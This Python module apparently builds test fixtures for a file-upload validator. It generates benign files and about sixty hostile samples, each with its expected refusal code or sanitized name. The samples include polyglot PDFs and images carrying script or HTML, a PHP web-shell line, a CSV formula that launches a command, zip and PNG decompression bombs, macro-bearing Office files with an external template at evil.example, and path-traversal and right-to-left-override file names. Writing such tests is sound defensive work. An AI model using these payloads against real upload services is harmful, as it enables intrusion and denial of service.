"""Files made for tests: good ones, and sixty that mean no good, each with what must become of it."""

import codecs
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

from PIL import Image

TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
}
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
GPS = (21.0285, 105.8542)


def pdf(inside: bytes = b"", size: int = 0) -> bytes:
    """A small PDF that is whole; `inside` stands in a stream, which is padded to `size` bytes."""
    stream = inside.ljust(size, b" ")
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    out, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        out
        + b"xref\n0 5\n0000000000 65535 f \n"
        + table
        + b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(out)
    )


def office(kind: str = "docx", more: dict[str, bytes] | None = None, *, types: str | None = None) -> bytes:
    """A document that is little more than its list of contents; `more` are further entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        said = types or TYPES[kind]
        main = "word/document.xml" if kind.startswith("doc") else "xl/workbook.xml"
        archive.writestr("[Content_Types].xml", f'<Types><Override PartName="/{main}" ContentType="{said}"/></Types>')
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(main, "<document>Biên bản họp tổ dân phố</document>")
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def archive(entries: list[tuple[str, bytes]]) -> bytes:
    """Any archive at all, in the given order, names twice if so given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries:
            made.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


@cache
def image(form: str = "JPEG", size: tuple[int, int] = (64, 48), *, gps: bool = False, orientation: int = 1) -> bytes:
    """A picture of every colour, with the place where it was taken if asked."""
    made = Image.linear_gradient("L").resize(size).convert("RGB")
    exif = Image.Exif()
    if gps:
        exif[0x010F] = "Máy ảnh mẫu"
        exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 1.0, 42.6), 3: "E", 4: (105.0, 51.0, 15.1)})
    if orientation != 1:
        exif[0x0112] = orientation
    out = io.BytesIO()
    made.save(out, form, **({"exif": exif.tobytes()} if gps or orientation != 1 else {}))
    return out.getvalue()


def png_chunk(name: bytes, body: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def huge_png(width: int, height: int) -> bytes:
    """A PNG of many pixels and few bytes."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((width // 8 + 1) * min(height, 2000)))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def lying_zip() -> bytes:
    """A document with an entry that unfolds into far more than its head says."""
    real = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = real.compress(bytes(64 << 20)) + real.flush()
    good = bytearray(office("docx", {"word/media/a.bin": b"A" * 100}))
    small = zlib.compressobj(-1, zlib.DEFLATED, -15)
    old = small.compress(b"A" * 100) + small.flush()
    at = bytes(good).index(old, bytes(good).index(b"word/media/a.bin"))
    moved = len(packed) - len(old)
    grown = good[:at] + packed + good[at + len(old) :]
    end = len(grown) - 22
    struct.pack_into("<I", grown, end + 16, struct.unpack_from("<I", grown, end + 16)[0] + moved)
    start = struct.unpack_from("<I", grown, end + 16)[0]
    entry = bytes(grown).index(b"word/media/a.bin", start) - 46
    struct.pack_into("<I", grown, entry + 20, len(packed))
    return bytes(grown)


def many_entries(count: int) -> bytes:
    """A document of so many empty parts."""
    return office("xlsx", {f"xl/p{n}": b"" for n in range(count)})


@dataclass(frozen=True)
class Hostile:
    """A file, its name, and the code of the refusal; None where it is taken and must be harmless when served.

    `kept_as` is the name under which it is shown.
    """

    name: str
    content: bytes
    code: str | None
    kept_as: str | None = None


HTML = b"<html><script>alert(document.domain)</script></html>"
JS = b"/*\xff\xd8\xff\xe0*/alert(1)"


def hostile() -> dict[str, Hostile]:
    """All of them by what they try."""
    jpg, png, webp, doc = image(), image("PNG"), image("WEBP"), office()
    return {
        # Two things at once
        "pdf with html in it": Hostile("a.pdf", pdf(HTML), None),
        "html before a pdf": Hostile("a.pdf", HTML + pdf(), "file_type_lies"),
        "pdf with a program for readers": Hostile(
            "a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), None
        ),
        "jpeg and archive": Hostile("a.jpg", jpg + archive([("a.js", b"alert(1)")]), None),
        "jpeg and html": Hostile("a.jpg", jpg + HTML, None),
        "png and archive": Hostile("a.png", png + archive([("a.js", b"alert(1)")]), None),
        "png with html in a note": Hostile("a.png", png[:33] + png_chunk(b"tEXt", b"x\0" + HTML) + png[33:], None),
        "webp and php": Hostile("a.webp", webp + b"<?php system($_GET[0]); ?>", None),
        "gif and script": Hostile("a.jpg", b"GIF89a/*" + bytes(64) + b"*/=1;alert(1)//", "file_type_lies"),
        "script that begins like a jpeg": Hostile("a.jpg", JS, "file_type_lies"),
        "archive with a pdf before it": Hostile("a.docx", pdf() + doc, "file_type_lies"),
        "document with a pdf behind it": Hostile("a.docx", doc + pdf(), "file_broken"),
        "document and program": Hostile("a.xlsx", b"MZ" + bytes(62) + office("xlsx"), "file_type_lies"),
        "java archive as a picture": Hostile("a.png", archive([("META-INF/MANIFEST.MF", b"x")]), "file_type_lies"),
        "html as text": Hostile("a.txt", HTML, None),
        "formula in a sheet": Hostile("a.csv", b"=cmd|' /C calc'!A0;1\r\n", None),
        # Bombs
        "one entry of 1 GiB": Hostile("a.docx", office("docx", {"word/media/a.bin": bytes(1 << 30)}), "file_too_deep"),
        "an entry that lies about its size": Hostile("a.docx", lying_zip(), "file_broken"),
        "three thousand entries": Hostile("a.xlsx", many_entries(3_000), "file_too_deep"),
        "sixty thousand entries": Hostile("a.xlsx", many_entries(60_000), "file_too_deep"),
        "same entry twice": Hostile(
            "a.docx", archive([("[Content_Types].xml", TYPES["docx"].encode())] * 2), "file_broken"
        ),
        "picture of 900 million dots": Hostile("a.png", huge_png(30_000, 30_000), "file_too_deep"),
        "picture of 60 million dots": Hostile("a.png", huge_png(10_000, 6_000), "file_too_deep"),
        "picture that promises more than it has": Hostile("a.png", huge_png(4_000, 4_000), None),
        "jpeg of two hundred scans": Hostile(
            "a.jpg", jpg[:-2] + jpg[jpg.index(b"\xff\xda") : -2] * 200 + b"\xff\xd9", "file_broken"
        ),
        "profile that unfolds": Hostile(
            "a.png",
            png[:33] + png_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(100 << 20), 9)) + png[33:],
            "file_broken",
        ),
        "note that unfolds": Hostile(
            "a.png",
            png[:33] + png_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(200 << 20), 9)) * 2 + png[33:],
            "file_broken",
        ),
        "archive in an archive": Hostile(
            "a.docx", archive([("a.zip", archive([("b", bytes(1 << 20))]))]), "file_type_lies"
        ),
        # Programs in documents
        "word macro": Hostile("a.docx", office("docx", {"word/vbaProject.bin": OLE}), "file_has_macros"),
        "excel macro": Hostile("a.xlsx", office("xlsx", {"xl/vbaProject.bin": OLE}), "file_has_macros"),
        "macro in odd letters": Hostile("a.docx", office("docx", {"word/VBApRoJeCt.BIN": OLE}), "file_has_macros"),
        "old excel macro": Hostile("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), "file_has_macros"),
        "docm under another name": Hostile("a.docx", office("docx", types=TYPES["docm"]), "file_has_macros"),
        "xlsm under another name": Hostile("a.xlsx", office("xlsx", types=TYPES["xlsm"]), "file_has_macros"),
        "active control": Hostile("a.docx", office("docx", {"word/activeX/activeX1.bin": OLE}), "file_has_macros"),
        "template from outside": Hostile(
            "a.docx",
            office(
                "docx",
                {
                    "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                    b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
                },
            ),
            "file_has_macros",
        ),
        "program inside": Hostile("a.docx", office("docx", {"word/embeddings/a.exe": b"MZ"}), "file_has_macros"),
        "old word document": Hostile("a.docx", OLE, "file_locked"),
        "climbing entry": Hostile("a.docx", office("docx", {"../../evil.txt": b"x"}), "file_broken"),
        # Other than they say
        "program as pdf": Hostile("a.pdf", b"MZ\x90\0" + bytes(500), "file_type_lies"),
        "program as text": Hostile("a.txt", b"MZ\x90\0" + bytes(500), "file_type_lies"),
        "elf as sheet": Hostile("a.csv", b"\x7fELF" + bytes(500), "file_type_lies"),
        "pdf as text": Hostile("a.txt", pdf(), "file_type_lies"),
        "sheet as document": Hostile("a.docx", office("xlsx"), "file_type_lies"),
        "png as jpeg": Hostile("a.jpg", png, "file_type_lies"),
        "html as picture": Hostile("a.webp", HTML, "file_type_lies"),
        "svg": Hostile("a.svg", b'<svg onload="alert(1)"/>', "file_type_refused"),
        "page": Hostile("a.html", HTML, "file_type_refused"),
        "archive": Hostile("a.zip", archive([("a", b"b")]), "file_type_refused"),
        "program": Hostile("a.exe", b"MZ", "file_type_refused"),
        "program behind a pdf's name": Hostile("hoa-don.pdf.exe", pdf(), "file_type_refused"),
        "virus signature": Hostile("a.pdf", EICAR, "file_type_lies"),
        "text in two bytes, cut": Hostile("a.txt", codecs.BOM_UTF16_LE + "số".encode("utf-16-le")[:-1], "file_broken"),
        # Names
        "climbing name": Hostile("../../../etc/passwd.txt", b"x", None, "passwd.txt"),
        "windows path": Hostile("C:\\Users\\a\\b.txt", b"x", None, "b.txt"),
        "turned around": Hostile("bao-cao\u202efdp.exe", b"MZ", "file_type_refused"),
        "turned around, harmless": Hostile("bao\u202ecao.txt", b"x", None, "baocao.txt"),
        "letters in pieces": Hostile("bie\u0302n ba\u0309n.txt", b"x", None, "biên bản.txt"),
        "device": Hostile("CON.txt", b"x", None, "_CON.txt"),
        "header in a name": Hostile('a"\r\nX-Evil: 1;.txt', b"x", None, "a_ X-Evil_ 1;.txt"),
        "very long": Hostile("ă" * 400 + ".txt", b"x", None, "ă" * 146 + ".txt"),
        "only an ending": Hostile(".txt", b"x", "file_type_refused"),
        "nothing in it": Hostile("a.txt", b"", "file_empty"),
    }
